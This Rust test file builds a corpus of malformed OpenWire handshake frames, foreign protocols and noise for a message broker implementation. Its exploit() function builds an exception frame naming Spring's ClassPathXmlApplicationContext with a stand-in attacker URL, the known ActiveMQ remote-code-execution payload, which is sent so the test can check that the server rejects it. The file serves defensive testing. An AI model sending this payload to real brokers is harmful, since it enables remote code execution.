//! WireFormatInfo, and what comes in its place.

use bytes::BytesMut;
use wharfmq_openwire::{Encoder, ExceptionResponse, Format, MAGIC, Proposal, Throwable, WireFormatInfo};

use super::case::{Change, Corpus, End};
use super::client::proposal;

pub(super) fn add(corpus: &mut Corpus) {
    frames(corpus);
    others(corpus);
    magic_and_version(corpus);
    properties(corpus);
    proposals(corpus);
}

/// A WireFormatInfo of these properties.
fn info(magic: [u8; 8], version: i32, map: Option<Vec<u8>>) -> Vec<u8> {
    let info = WireFormatInfo { magic, version, marshalled_properties: map.map(Into::into) };
    let mut out = BytesMut::new();
    Encoder::new(Format::default()).encode(&info, &mut out);
    out.to_vec()
}

/// An exception whose class is what others have instantiated.
pub(super) fn exploit() -> ExceptionResponse {
    let class = "org.springframework.context.support.ClassPathXmlApplicationContext";
    let exception = Some(Box::new(Throwable::new(class, "http://attacker.invalid/poc.xml")));
    ExceptionResponse { command_id: 1, correlation_id: 1, exception, ..Default::default() }
}

fn frames(corpus: &mut Corpus) {
    for (name, size) in
        [("0", 0), ("-1", -1), ("MIN", i32::MIN), ("MAX", i32::MAX), ("above the limit", 65_537)]
    {
        corpus.first(
            format!("a first frame of size {name}"),
            move |c| c.raw(&size.to_be_bytes()),
            End::Closed,
        );
    }
    corpus.first("half a size", |c| c.raw(&[0, 0]), End::Waits);
    corpus.first("a first frame that never comes", |c| c.raw(&[0, 1, 0, 0]), End::Waits);
    corpus.first("half a WireFormatInfo", |c| c.raw(&info(MAGIC, 12, None)[..10]), End::Waits);
    corpus.first("an empty WireFormatInfo", |c| c.body(&[1]), End::Closed);
    corpus.first(
        "a WireFormatInfo with more behind it",
        |c| c.body(&[&info(MAGIC, 12, None)[4..], &[0]].concat()),
        End::Closed,
    );
    for type_id in (2..=23).chain([28, 30, 31, 32, 33, 40, 50, 60, 65, 90, 92, 101, 110, 120, 124, 0, 255]) {
        corpus.first(
            format!("type {type_id} as the first"),
            move |c| c.body(&[type_id, 0, 0, 0, 1, 0, 0, 0, 0]),
            End::Closed,
        );
    }
    let mut bytes = BytesMut::new();
    Encoder::new(Format::default()).encode(&exploit(), &mut bytes);
    corpus.first("an exception to be instantiated, as the first", move |c| c.raw(&bytes), End::Closed);
}

/// Other protocols, and noise.
fn others(corpus: &mut Corpus) {
    for (name, bytes) in [
        ("HTTP", &b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"[..]),
        ("STOMP", b"CONNECT\naccept-version:1.2\nhost:a\n\n\0"),
        ("TLS", &[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]),
        ("AMQP", b"AMQP\0\x01\0\0"),
        ("Java's own streams", &[0xac, 0xed, 0, 5, 0x73, 0x72]),
    ] {
        corpus.first(format!("{name} for OpenWire"), move |c| c.raw(bytes), End::Closed);
    }
    for round in 0..10_u8 {
        let noise: Vec<u8> =
            (0..200).map(|n: u8| n.wrapping_mul(37 + 2 * round).rotate_left(3) ^ round).collect();
        let framed = noise.clone();
        corpus.first(format!("noise {round}"), move |c| c.raw(&noise), End::Any);
        corpus.connected(format!("a frame of noise {round}"), move |c| c.body(&framed), End::Any);
    }
}

fn magic_and_version(corpus: &mut Corpus) {
    for magic in [*b"activemq", [0; 8], [0xff; 8]] {
        corpus.first(
            format!("magic {:02x?}", &magic[..2]),
            move |c| c.raw(&info(magic, 12, None)),
            End::Closed,
        );
    }
    for version in [0, -1, i32::MIN] {
        corpus.first(format!("version {version}"), move |c| c.raw(&info(MAGIC, version, None)), End::Closed);
    }
    for version in [13, 99, i32::MAX] {
        corpus.first(
            format!("version {version}, as 12"),
            move |c| c.greet(&Proposal { version, ..proposal() }),
            End::GoesOn,
        );
    }
    corpus.first(
        "no properties at all",
        |c| c.greet(&Proposal { version: 1, ..Proposal::default() }),
        End::GoesOn,
    );
    corpus.greeted("a second WireFormatInfo", |c| c.send(&proposal().write()), End::Closed);
    corpus.connected("a WireFormatInfo after the login", |c| c.send(&proposal().write()), End::Closed);
    corpus.greeted("a second WireFormatInfo, loose", |c| c.raw(&info(MAGIC, 12, None)), End::Closed);
}

fn property(name: &[u8], value: &[u8]) -> Vec<u8> {
    [&(name.len() as u16).to_be_bytes()[..], name, value].concat()
}

fn properties(corpus: &mut Corpus) {
    let count = |count: i32, rest: &[u8]| [&count.to_be_bytes()[..], rest].concat();
    let one = property(b"CacheSize", &[5, 0, 0, 4, 0]);
    for (name, map) in [
        ("of 65 properties", count(65, &one.repeat(65))),
        ("of 2^31-1 properties", count(i32::MAX, &one)),
        ("that ends early", count(2, &one)),
        ("without a count", vec![0, 0]),
        ("of a map in a map", count(1, &property(b"x", &[11, 0, 0, 0, 0]))),
        ("of a list", count(1, &property(b"x", &[12, 0, 0, 0, 0]))),
        ("of bytes", count(1, &property(b"x", &[10, 0, 0, 0, 0]))),
        ("of no type", count(1, &property(b"x", &[77]))),
        ("of a truth for a number", count(1, &property(b"CacheSize", &[1, 1]))),
        ("of a number for a truth", count(1, &property(b"TightEncodingEnabled", &[5, 0, 0, 0, 1]))),
        ("of a long name", count(1, &property(&[b'x'; 5_000], &[1, 1]))),
        ("of a long text", count(1, &property(b"Host", &[&[9, 0x13, 0x88][..], &[b'x'; 5_000]].concat()))),
        ("of a CacheSize of 64 bits", count(1, &property(b"CacheSize", &[6, 0x7f, 0, 0, 0, 0, 0, 0, 0]))),
    ] {
        corpus.first(
            format!("a map {name}"),
            move |c| c.raw(&info(MAGIC, 12, Some(map.clone()))),
            End::Closed,
        );
    }
}

fn proposals(corpus: &mut Corpus) {
    for size in [1, 50, 99, 100, 101, -5, i32::MAX, i32::MIN] {
        corpus.first(
            format!("CacheSize {size}"),
            move |c| {
                c.greet(&Proposal { cache: true, cache_size: size, ..proposal() });
                c.login();
                let producer = c.producer_info(1);
                c.ask(&producer);
            },
            End::GoesOn,
        );
    }
    let accepted: [(&str, Change<Proposal>); 8] = [
        ("SizePrefixDisabled", |p| p.size_prefix_disabled = true),
        ("MaxFrameSize -1", |p| p.max_frame = -1),
        ("MaxFrameSize 0", |p| p.max_frame = 0),
        ("MaxInactivityDuration -1", |p| p.inactivity = -1),
        ("MaxInactivityDuration MIN", |p| p.inactivity = i64::MIN),
        ("MaxInactivityDuration MAX", |p| p.inactivity = i64::MAX),
        ("MaxInactivityDurationInitalDelay MAX", |p| p.inactivity_delay = i64::MAX),
        ("MaxInactivityDurationInitalDelay MIN", |p| p.inactivity_delay = i64::MIN),
    ];
    for (name, change) in accepted {
        corpus.first(
            name,
            move |c| {
                let mut proposal = proposal();
                change(&mut proposal);
                c.greet(&proposal);
                c.login();
            },
            End::GoesOn,
        );
    }
}
